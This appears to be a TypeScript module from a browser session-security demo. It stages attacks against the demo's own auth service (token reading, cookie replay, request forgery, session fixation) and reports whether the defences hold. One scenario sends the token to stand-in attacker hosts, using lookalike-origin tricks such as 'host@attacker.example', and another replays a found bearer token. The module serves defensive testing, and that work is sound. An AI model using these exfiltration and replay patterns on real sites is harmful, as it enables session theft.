import { discard, newCredentials, read, type Transport } from "../measure/lab-service.ts";
import { lookForCredentials, searchFor } from "../table/script-reach.ts";
import type { Attack, Exchange, Means } from "./attack.ts";
import { closeUsualApp, openUsualApp } from "./usual-app.ts";

export const readTheToken: Attack = {
  id: "read",
  title: "Read the token",
  about:
    "Script that gets into a page reads what the page can read. The attack looks in cookies, storage, the page and every property that it can reach: here for your credentials, and then, in a frame, for those of a small app that keeps its token in localStorage, as many do.",
  async run({ transport, visitor, place }) {
    closeUsualApp(place);
    const vault = await lookForCredentials(visitor);
    const credentials = await newCredentials(transport);
    const app = await openUsualApp(place, credentials.token);
    const usual = await searchFor(credentials.user, app);
    const [stolen] = usual.credentials;
    const exchanges: Exchange[] = [
      { request: `Your session, in this page: ${vault.places} places`, status: 0, answer: `found in ${vault.found}` },
      {
        request: `The app's token, in the frame: ${usual.places} places`,
        status: 0,
        answer: `found in ${usual.found}`,
      },
    ];
    if (stolen !== undefined) {
      const headers = { Authorization: `Bearer ${stolen}` };
      const { ok, status } = await fetch("/lab/api/none", { headers, credentials: "omit", cache: "no-store" });
      const request = `GET /lab/api/none, from this page, with what was found\nAuthorization: Bearer ${stolen.slice(0, 12)}…${stolen.slice(-6)}`;
      exchanges.push({ request, status, answer: ok ? "accepted: it was stolen" : "" });
    }
    await discard(transport, credentials);
    const works = exchanges.some(({ status }) => status === 200);
    return {
      exchanges,
      succeeded: vault.found > 0,
      verdict: `Yours: found in ${vault.found} places. The token is in the WebAssembly of the vault's worker, and the cookie is HttpOnly.`,
      beside: {
        succeeded: works,
        verdict: works
          ? "The other app's: found, and the API accepts it from outside of the app. It works anywhere until it expires."
          : "The other app's: not found.",
      },
    };
  },
};

/** A session of a new user, with the cookie that malware would have copied. */
const stolenSession = async ({ control }: Transport) =>
  read<{ id: string; cookie: string }>("A session", await control("POST", "stolen"));

export const replayTheCookie: Attack = {
  id: "replay",
  title: "Replay a stolen refresh cookie",
  about:
    "Malware on a device copies the cookie jar. The owner goes on using the session, and the thief presents the copy later.",
  simulated:
    "A page can't choose its cookies, so the demo's API presents them for both devices. It takes two rotations, a minute each with the default settings.",
  async run({ transport, wait }) {
    const refresh = async (who: string, cookie: string) => {
      const found = await read<Exchange & { cookie: string }>(
        "Refresh",
        await transport.control("POST", "refresh", { cookie }),
      );
      exchanges.push({ ...found, request: `${who}: ${found.request}` });
      return found;
    };
    const exchanges: Exchange[] = [];
    const { id: user, cookie: stolen } = await stolenSession(transport);
    // The window within which the same cookie gets the same answer.
    let owner = stolen;
    for (let seconds = 0; owner === stolen && seconds < 90; seconds += 5) {
      await wait(5, "until the owner's cookie is rotated");
      owner = (await refresh("Owner", owner)).cookie || owner;
    }
    let thief = await refresh("Thief", stolen);
    for (let seconds = 0; thief.status === 200 && seconds < 90; seconds += 5) {
      await refresh("Owner", owner);
      await wait(5, "until the window is over in which the old cookie may still be on its way");
      thief = await refresh("Thief", stolen);
    }
    const after = await refresh("Owner", owner);
    await discard(transport, { user });
    return {
      exchanges: [...exchanges.slice(0, 1), ...exchanges.slice(-4)],
      succeeded: thief.status === 200,
      verdict:
        after.status === 401
          ? "The old cookie was presented although it had been replaced: two devices have had the session, so the service ends it for both, and the owner signs in again. Within the replay window of a minute, the copy would have worked: a lost answer looks just like it."
          : "The session goes on.",
    };
  },
};

export const forgedRequest: Attack = {
  id: "forgery",
  title: "Forge a request from another site",
  about:
    "A page of another site, which opens now, submits a form, calls fetch, and loads an image at this address, with the cookies that your browser adds. It does not see the answers, but the requests might do something.",
  simulated:
    "The browser leaves a SameSite=Strict cookie out. So the demo's API then sends the same requests with the cookie, as a browser without SameSite would.",
  async run({ transport, wait }) {
    // The browser has the cookie of this user's session.
    const credentials = await newCredentials(transport);
    const { origin } = await read<{ origin: string }>("The other site", await transport.control("POST", "other-site"));
    const run = crypto.randomUUID();
    window.open(`${origin}/?target=${encodeURIComponent(location.origin)}&run=${run}`, "_blank", "noopener");
    let arrived: readonly Exchange[] = [];
    for (let seconds = 0; arrived.length < 3 && seconds < 30; seconds += 1) {
      await wait(1, "until the other site's requests have arrived");
      ({ arrived } = await read<{ arrived: readonly Exchange[] }>(
        "What has arrived",
        await transport.control("POST", "arrived", { run }),
      ));
    }
    const sent = await read<readonly Exchange[]>("The requests", await transport.control("POST", "forgery"));
    await discard(transport, credentials);
    const passed = [...arrived, ...sent].filter(({ request, status }) => /\bPOST\b/.test(request) && status < 400);
    return {
      exchanges: [...arrived, ...sent.map((each) => ({ ...each, request: `Simulated: ${each.request}` }))],
      succeeded: passed.length > 0 || arrived.some(({ status }) => status < 400),
      verdict:
        arrived.length === 0
          ? "Nothing has arrived from the other site: your browser may have kept its page from opening."
          : "The browser leaves the cookie out, and the gate rejects what arrives. With the cookie, whatever could change something is rejected, too: it must come from a page of the service's own origin. A GET with the cookie would be answered; but the other page cannot read the answer, and a GET should change nothing.",
    };
  },
};

export const fixation: Attack = {
  id: "fixation",
  title: "Session fixation",
  about:
    "The attacker plants a session that the attacker knows, and waits until the victim signs in with it. If the sign-in kept that session, both would have it.",
  simulated:
    "Script of this page tries to plant the cookie and fails; so the demo's API sends the victim's sign-in with a planted cookie.",
  async run({ transport }) {
    const name = "__Host-Http-latchkey";
    // biome-ignore lint/suspicious/noDocumentCookie: this is the attack
    document.cookie = `${name}=planted; Path=/; Secure`;
    const planted = document.cookie.includes(`${name}=`);
    const first = {
      request: `document.cookie = "${name}=…"`,
      status: 0,
      answer: planted ? "set" : "the browser refuses it",
    };
    const exchanges = await read<readonly Exchange[]>("The sign-in", await transport.control("POST", "fixation"));
    const works = exchanges[1]?.status === 200;
    return {
      exchanges: [first, ...exchanges],
      succeeded: planted || works,
      verdict:
        "The name's prefix keeps script from setting the cookie. A sign-in always opens a new session, and ends the one whose cookie came with it.",
    };
  },
};

export const anotherOrigin: Attack = {
  id: "origin",
  title: "Send the token to another origin",
  about:
    "Injected script asks the vault for a request to the attacker's server, so that the vault adds the token. Addresses that look like yours are tried, too.",
  async run({ send }) {
    const { host, hostname } = location;
    const targets = [
      "https://attacker.example/collect",
      `https://${hostname}.attacker.example/`,
      `${location.protocol}//${host}@attacker.example/`,
      "//attacker.example/",
      `${location.protocol}//${hostname}:1/`,
    ];
    const exchanges: Exchange[] = [];
    for (const target of targets) {
      const answer = await send(target).then(
        ({ status }) => `answered ${status}`,
        (error: unknown) => (error instanceof Error && "code" in error ? String(error.code) : String(error)),
      );
      exchanges.push({ request: `auth.fetch(${JSON.stringify(target)})`, status: 0, answer });
    }
    const succeeded = exchanges.some(({ answer }) => answer.startsWith("answered"));
    return {
      exchanges,
      succeeded,
      verdict: "The vault compares parsed origins with its list, and sends nothing to any other.",
    };
  },
};

export const injectedScript: Attack = {
  id: "inject",
  title: "Use the session from injected script",
  about:
    "Script in the page need not read the token: it can ask the vault for requests, or the service for a token, as the page does. This works, against every way to keep a session in a browser.",
  async run({ send }: Means) {
    const me = await send("/api/me");
    const own = await fetch("/auth/refresh", { method: "POST", headers: { "Latchkey-Client": "injected/1" } });
    const { access_token = "" } = (await own.json()) as { access_token?: string };
    const token = access_token === "" ? "no token" : `an access token, ${access_token.length} characters`;
    return {
      exchanges: [
        { request: 'auth.fetch("/api/me")', status: me.status, answer: me.ok ? "accepted, as you" : "" },
        { request: "POST /auth/refresh, with your cookie", status: own.status, answer: token },
      ],
      succeeded: me.ok || access_token !== "",
      verdict:
        "It works. What limits it: the Content-Security-Policy and Trusted Types of this page keep script out, the script acts only while the page is open, a token that it takes along expires in minutes and is rejected at once on strict routes after a sign-out, and the cookie cannot be taken along.",
    };
  },
};

export const racingTabs: Attack = {
  id: "race",
  title: "Two tabs race for one refresh",
  about:
    "Not an attack, but what crude detection of stolen cookies mistakes for one: several tabs wake up and present the same cookie at once.",
  simulated: "The demo's API presents the cookie five times at the same time.",
  async run({ transport }) {
    const { id: user, cookie } = await stolenSession(transport);
    const present = async () =>
      read<Exchange & { cookie: string }>("Refresh", await transport.control("POST", "refresh", { cookie }));
    const answers = await Promise.all(Array.from({ length: 5 }, present));
    await discard(transport, { user });
    const cookies = new Set(answers.map((answer) => answer.cookie));
    const ok = answers.every(({ status }) => status === 200) && cookies.size === 1;
    return {
      exchanges: answers,
      succeeded: !ok,
      verdict: ok
        ? "All five get the same cookie, byte for byte. The session does not fork, and no tab is signed out."
        : "The tabs got different answers.",
    };
  },
};
